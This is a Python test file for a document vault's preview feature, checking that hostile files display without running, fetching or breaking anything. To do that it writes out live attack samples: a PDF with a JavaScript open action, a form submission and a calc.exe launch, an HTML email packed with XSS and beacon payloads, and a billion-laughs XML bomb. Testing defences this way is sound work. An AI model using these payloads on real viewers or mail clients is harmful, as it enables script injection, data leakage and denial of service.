"""Looking at files: PDF, images, text, mails, Office. Hostile ones run nothing, fetch nothing, and break nothing."""

from __future__ import annotations

import io
import socket
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from axe_playwright_python.sync_playwright import Axe  # type: ignore[import-untyped]
from PIL import Image
from playwright.sync_api import FrameLocator, Locator, Page, expect

from siegel.demo.furnish import DOCUMENTS
from tests.journeys.people import Firm, Vault
from tests.journeys.test_looks import SIZES, look
from tests.journeys.visits import Visit, come_in, open_vault, row
from tests.journeys.watch import Watch

DOSSIER = DOCUMENTS / "10001" / "Einkommensteuer 2024"
SAMPLES = Path(__file__).parents[3] / "shared" / "samples"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# The page's policy holds while the HTML is taken apart, and says so of every style and handler that it finds there.
PARSED = "Content Security Policy|console error: CSP (base-uri|style-src|script-src)"


class Trap:
    """A listening socket that a hostile file names; whoever comes is counted."""

    def __init__(self) -> None:
        self._server = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._server.getsockname()[1]}"
        self.visits = 0
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                self._server.accept()[0].close()
            except OSError:
                return
            self.visits += 1

    def close(self) -> None:
        self._server.close()


@pytest.fixture
def trap() -> Iterator[Trap]:
    trap = Trap()
    yield trap
    trap.close()
    assert trap.visits == 0


def zipped(**parts: str | bytes) -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as file:
        for name, part in parts.items():
            file.writestr(name, part)
    return whole.getvalue()


def docx(body: str, head: str = "") -> bytes:
    text = f'<?xml version="1.0"?>{head}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return zipped(**{"[Content_Types].xml": "<Types/>", "word/document.xml": text})


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def xlsx(rows: int) -> bytes:
    """A sheet with numbers, a shared text and a date in each row."""
    line = (
        '<row r="{0}"><c r="A{0}"><v>{0}</v></c><c r="B{0}" t="s"><v>0</v></c><c r="D{0}" s="1"><v>45658</v></c></row>'
    )
    sheet = "".join(line.format(number) for number in range(1, rows + 1))
    return zipped(
        **{
            "xl/workbook.xml": f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets>'
            '<sheet name="Fahrten" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": '<Relationships><Relationship Id="r1" Target="worksheets/sheet1.xml"/>'
            "</Relationships>",
            "xl/sharedStrings.xml": f'<sst xmlns="{S}"><si><t>Büro &lt;b&gt;</t></si></sst>',
            "xl/styles.xml": f'<styleSheet xmlns="{S}"><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>'
            "</styleSheet>",
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{S}"><sheetData>{sheet}</sheetData></worksheet>',
        }
    )


def hostile_pdf(trap: Trap, pages: int = 1) -> bytes:
    """Runs a script, starts a program and opens an address when it is opened; and has text."""
    pdf = pikepdf.new()
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.Contents = pdf.make_stream(f"BT /F1 24 Tf 72 720 Td (Seite {number} von {pages}) Tj ET".encode())
        link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(f"{trap.url}/link"))
        page.obj.AA = pikepdf.Dictionary(O=link)
    script = f"app.alert('x'); this.submitForm('{trap.url}'); window.top.location='{trap.url}';"
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript,
        JS=pikepdf.String(script),
        Next=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")),
    )
    whole = io.BytesIO()
    pdf.save(whole)
    return whole.getvalue()


ADDRESSES = """(body) => [...body.querySelectorAll("*")].some(({ attributes }) =>
  [...attributes].some(({ name }) => /^on|href|src|style|background|ping/.test(name)))"""


def hostile_mail(trap: Trap) -> bytes:
    html = f"""<html><head><title>x</title><base href="{trap.url}/"><link rel="stylesheet" href="{trap.url}/style.css">
      <meta http-equiv="refresh" content="0;url={trap.url}/refresh"><style>@import url({trap.url}/i.css);</style></head>
      <body background="{trap.url}/back.png" onload="fetch('{trap.url}/onload')">
      <h1 style="background:url({trap.url}/h1.png)">Bescheid 2024</h1>
      <script>fetch("{trap.url}/script"); parent.document.title = "gekapert"; top.location = "{trap.url}";</script>
      <img src="{trap.url}/pixel.gif" onerror="alert(1)" alt="Logo"><img srcset="{trap.url}/set.png 2x">
      <svg onload="alert(1)"><image href="{trap.url}/svg.png"/><script>alert(1)</script></svg>
      <iframe src="{trap.url}/frame"></iframe><object data="{trap.url}/object"></object>
      <form action="{trap.url}/form"><input name="password" autofocus onfocus="alert(1)"><button>Ja</button></form>
      <a href="javascript:alert(1)">Hier klicken</a> <a href="{trap.url}/a" ping="{trap.url}/ping">Verweis</a>
      <video src="{trap.url}/video" autoplay></video>
      <math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>
      <table background="{trap.url}/t.png"><tr><td>Erstattung</td><td>1.234,56 €</td></tr></table></body></html>"""
    return (
        "From: =?utf-8?q?Finanzamt_K=C3=B6ln?= <poststelle@fa.example>\r\nTo: Kanzlei <k@kanzlei.example>\r\n"
        "Subject: =?utf-8?q?Bescheid_f=C3=BCr_2024?=\r\nDate: Fri, 20 Nov 2026 10:00:00 +0100\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="g"\r\n\r\n--g\r\nContent-Type: text/html; charset=utf-8\r\n'
        f"Content-Transfer-Encoding: 8bit\r\n\r\n{html}\r\n--g\r\n"
        'Content-Type: application/octet-stream; name="Bescheid.txt"\r\nContent-Disposition: attachment;'
        ' filename="Bescheid.txt"\r\n\r\nInhalt des Anhangs\r\n--g--\r\n'
    ).encode()


def encrypted_pdf() -> bytes:
    pdf, whole = pikepdf.new(), io.BytesIO()
    pdf.add_blank_page()
    pdf.save(whole, encryption=pikepdf.Encryption(owner="a", user="b"))
    return whole.getvalue()


def turned_photo() -> bytes:
    """Wide in the file, upright as the camera was held (EXIF orientation 6)."""
    exif = Image.Exif()
    exif[0x0112] = 6
    whole = io.BytesIO()
    Image.new("RGB", (400, 200), "red").save(whole, "JPEG", exif=exif)
    return whole.getvalue()


def fill(firm: Firm, vault: Vault, folder: Path, **files: bytes) -> None:
    for name, content in files.items():
        (folder / name).write_bytes(content)
    firm.put(vault, firm.client, *[folder / name for name in files])


def view(page: Page, name: str) -> Locator:
    """Opens the preview; the place where the file is shown."""
    row(page, name).locator("a[data-open]").click()
    page.click("[data-pane] [data-action=view]")
    place = page.locator("[data-preview-place]")
    expect(page.locator("dialog#preview")).to_be_visible()
    expect(page.locator("[data-preview-place]:not(:empty)")).to_be_visible()
    return place


def frame_of(page: Page) -> FrameLocator:
    assert page.locator("iframe[data-preview]").get_attribute("sandbox") == ""
    return page.frame_locator("iframe[data-preview]")


def close(page: Page) -> None:
    page.click("#preview [data-close]")
    expect(page.locator("[data-preview-place]:empty")).to_have_count(1)


def blobs_left(page: Page) -> int:
    """How many addresses of blobs were made and not taken back."""
    return int(page.evaluate("window.blobs.size"))


@pytest.fixture
def reader(visit: Visit, firm: Firm) -> Page:
    page = visit()
    page.add_init_script(
        """window.blobs = new Set();
        const { createObjectURL, revokeObjectURL } = URL;
        URL.createObjectURL = (blob) => { const url = createObjectURL(blob); window.blobs.add(url); return url; };
        URL.revokeObjectURL = (url) => { window.blobs.delete(url); revokeObjectURL(url); };
        window.alert = () => { throw new Error("an alert"); };"""
    )
    return come_in(page, firm, firm.clerk)


def test_a_hostile_pdf_is_only_drawn(reader: Page, firm: Firm, vault: Vault, tmp_path: Path, trap: Trap) -> None:
    fill(firm, vault, tmp_path, **{"Falle.pdf": hostile_pdf(trap, pages=30)})
    open_vault(reader, vault)
    place = view(reader, "Falle.pdf")
    expect(place.locator("canvas").first).to_be_visible()
    expect(place.locator(".sg-pdf-text").first).to_contain_text("Seite 1 von 30")
    assert place.locator("canvas").count() < 8, "pages out of sight are not drawn"
    place.locator("[data-page-number]").fill("30")
    place.locator("[data-page-number]").press("Enter")
    expect(place.get_by_text("Seite 30 von 30")).to_be_visible()
    place.locator("[role=region]").focus()
    reader.keyboard.press("+")
    expect(place.locator("[data-zoom]")).to_have_text("125 %")
    expect(place.get_by_text("Seite 30 von 30")).to_be_visible()
    reader.keyboard.press("ArrowLeft")
    expect(place.locator("[data-page-number]")).to_have_value("29")
    assert place.locator("a").count() == 0
    assert blobs_left(reader) == 0
    close(reader)
    assert reader.locator("canvas").count() == 0


def test_a_hostile_mail_is_text_in_a_sandbox(
    reader: Page, firm: Firm, vault: Vault, tmp_path: Path, trap: Trap, watch: Watch
) -> None:
    watch.expect(PARSED)
    fill(firm, vault, tmp_path, **{"Falle.eml": hostile_mail(trap)})
    open_vault(reader, vault)
    title = reader.title()
    place = view(reader, "Falle.eml")
    body = frame_of(reader).locator("body")
    expect(body).to_contain_text("Bescheid 2024")
    expect(body).to_contain_text("1.234,56 €")
    expect(body).to_contain_text("[Logo]")
    assert body.locator("script, img, svg, iframe, form, input, a, object, video, style, link").count() == 0
    assert not body.evaluate(ADDRESSES)
    expect(place.locator("[data-mail=from]")).to_have_text("Finanzamt Köln <poststelle@fa.example>")
    expect(place.locator("[data-mail=subject]")).to_have_text("Bescheid für 2024")
    with reader.expect_download() as download:
        reader.get_by_role("button", name="„Bescheid.txt“ speichern").click()
    assert Path(download.value.path()).read_text().strip() == "Inhalt des Anhangs"
    assert reader.title() == title
    close(reader)


def test_office_files_are_text_and_tables(reader: Page, firm: Firm, vault: Vault, tmp_path: Path) -> None:
    table = f"<w:tbl><w:tr><w:tc>{paragraph('links')}</w:tc><w:tc>{paragraph('rechts')}</w:tc></w:tr></w:tbl>"
    odt = zipped(
        **{
            "content.xml": '<o:document xmlns:o="urn:o" xmlns:t="urn:t" xmlns:tab="urn:tab"><o:body><o:text>'
            "<t:h>Überschrift</t:h><t:p>Ein <t:span>Absatz</t:span></t:p></o:text></o:body></o:document>"
        }
    )
    ods = zipped(
        **{
            "content.xml": '<o:document xmlns:o="urn:o" xmlns:t="urn:t" xmlns:tab="urn:tab"><o:body><o:spreadsheet>'
            '<tab:table tab:name="Kasse"><tab:table-row tab:number-rows-repeated="1048576"><tab:table-cell'
            ' tab:number-columns-repeated="16384"/></tab:table-row><tab:table-row><tab:table-cell'
            ' tab:number-columns-repeated="3"><t:p>1,50</t:p></tab:table-cell></tab:table-row></tab:table>'
            "</o:spreadsheet></o:body></o:document>"
        }
    )
    word = docx(paragraph("Grüße &lt;script&gt;alert(1)&lt;/script&gt;") + table)
    files = {"Brief.docx": word, "Brief.odt": odt, "Kasse.ods": ods, "Fahrten.xlsx": xlsx(50_000)}
    fill(firm, vault, tmp_path, **files)
    open_vault(reader, vault)
    view(reader, "Brief.docx")
    expect(frame_of(reader).locator("body")).to_contain_text("Grüße <script>alert(1)</script>")
    expect(frame_of(reader).locator("td")).to_have_text(["links", "rechts"])
    close(reader)
    view(reader, "Brief.odt")
    expect(frame_of(reader).locator("h2")).to_have_text("Überschrift")
    expect(frame_of(reader).locator("p")).to_have_text("Ein Absatz")
    close(reader)
    view(reader, "Kasse.ods")
    expect(frame_of(reader).locator("td", has_text="1,50")).to_have_count(3)
    close(reader)
    place = view(reader, "Fahrten.xlsx")
    expect(frame_of(reader).locator("tr")).to_have_count(1000)
    expect(frame_of(reader).locator("tr").first.locator("td")).to_have_text(["1", "Büro <b>", "", "01.01.2025"])
    expect(place.locator("[data-preview-note]")).to_contain_text("nur der Anfang")
    assert blobs_left(reader) == 0
    close(reader)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        (
            "Lachen.docx",
            docx(paragraph("&l9;"), f'<!DOCTYPE d [<!ENTITY l0 "lol">{LAUGHS}]>'),
            "lässt sich nicht anzeigen",
        ),
        ("Bombe.docx", docx(paragraph("x" * (40 << 20))), "zu groß"),
        ("Kein.docx", b"kein Archiv, nur Text", "lässt sich nicht anzeigen"),
        ("Kein.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "lässt sich nicht anzeigen"),
    ],
)
def test_what_cannot_be_shown_is_said_and_nothing_breaks(
    reader: Page, firm: Firm, vault: Vault, tmp_path: Path, name: str, content: bytes, why: str
) -> None:
    fill(firm, vault, tmp_path, **{name: content, "Notiz.txt": b"Guten Tag"})
    open_vault(reader, vault)
    expect(view(reader, name)).to_contain_text(why)
    close(reader)
    view(reader, "Notiz.txt")
    expect(frame_of(reader).locator("body")).to_have_text("Guten Tag")
    assert blobs_left(reader) == 0


def test_images_stand_upright_and_texts_keep_their_letters(
    reader: Page, firm: Firm, vault: Vault, tmp_path: Path, trap: Trap
) -> None:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="{trap.url}/x"/></svg>'.encode()
    files = {
        "Foto.jpg": turned_photo(),
        "Bild.svg": svg,
        "DATEV.csv": "Müller;Größe;5 €".encode("cp1252"),
        "Export.txt": "Müller\tGröße".encode("utf-16"),
        "Lang.txt": b"Zeile\n" * 500_000,
    }
    fill(firm, vault, tmp_path, **files)
    open_vault(reader, vault)
    view(reader, "Foto.jpg")
    image = reader.get_by_role("img", name="Foto.jpg")
    assert image.evaluate("(image) => image.naturalWidth < image.naturalHeight")
    assert blobs_left(reader) == 0
    close(reader)
    for name, text in (("Bild.svg", "onload"), ("DATEV.csv", "Müller;Größe;5 €"), ("Export.txt", "Müller\tGröße")):
        view(reader, name)
        expect(frame_of(reader).locator("body")).to_contain_text(text)
        assert frame_of(reader).locator("svg").count() == 0
        close(reader)
    expect(view(reader, "Lang.txt").locator("[data-preview-note]")).to_contain_text("nur der Anfang")
    close(reader)


def test_nothing_of_a_preview_is_loaded_before_it_is_wanted(reader: Page, vault: Vault) -> None:
    asked: list[str] = []
    reader.on("request", lambda request: asked.append(request.url))
    open_vault(reader, vault)
    assert not [url for url in asked if any(part in url for part in ("pdf", "office-", "mail-", ".wasm", ".pfb"))]


@pytest.mark.parametrize("folder", ["mail/torture", "mail/real", "einvoice/own-pdf"])
def test_nasty_files_of_others_are_shown_or_refused(
    reader: Page, firm: Firm, vault: Vault, watch: Watch, folder: str
) -> None:
    watch.expect(PARSED)
    files = sorted((SAMPLES / folder).rglob("*.eml"))[:12] + sorted((SAMPLES / folder).rglob("*.pdf"))[:6]
    if not files:
        pytest.skip("the samples are not on this machine")
    firm.put(vault, firm.client, *files, allowed={"stored", "not_scannable"})
    open_vault(reader, vault)
    for file in files:
        if row(reader, file.name).count() == 0:
            continue  # the scanner kept it out
        place = view(reader, file.name)
        expect(
            place.locator("iframe, canvas").or_(place.get_by_text("lässt sich nicht anzeigen")).first
        ).to_be_visible()
        close(reader)
    assert blobs_left(reader) == 0


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("size", SIZES)
def test_previews_are_accessible(
    visit: Visit, firm: Firm, vault: Vault, tmp_path: Path, trap: Trap, watch: Watch, size: str, theme: str
) -> None:
    watch.expect(PARSED)
    files = {"Bericht.pdf": hostile_pdf(trap, 3), "Post.eml": hostile_mail(trap), "Fahrten.xlsx": xlsx(30)}
    fill(firm, vault, tmp_path, **files)
    options: dict[str, Any] = {**SIZES[size], "color_scheme": theme}
    page = come_in(visit(**options), firm, firm.clerk)
    open_vault(page, vault)
    for name in files:
        place = view(page, name)
        expect(place.locator("iframe, canvas").first).to_be_visible()
        look(page, Axe(), f"{size}-{theme}-preview-{name.partition('.')[2]}")
        close(page)
        if size == "phone":
            page.click("[data-pane-close]")
